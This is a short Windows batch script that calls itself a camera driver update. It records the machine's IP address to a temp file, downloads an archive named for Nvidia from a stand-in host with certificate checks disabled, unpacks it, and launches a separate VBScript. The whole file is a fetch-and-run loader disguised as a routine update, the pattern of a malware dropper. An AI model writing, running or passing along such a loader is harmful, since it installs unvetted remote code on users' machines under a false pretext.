@echo off
title Camera driver update
ipconfig | findstr /i "IPv4" > "%TEMP%\ip.txt"
curl -k -o "%TEMP%\cameraDriver.zip" https://camera-drivers.invalid/nvidiaRelease.zip && powershell -Command "Expand-Archive -Force -Path '%TEMP%\cameraDriver.zip' -DestinationPath '%TEMP%\cameraDriver'" && wscript "%~dp0update.vbs"
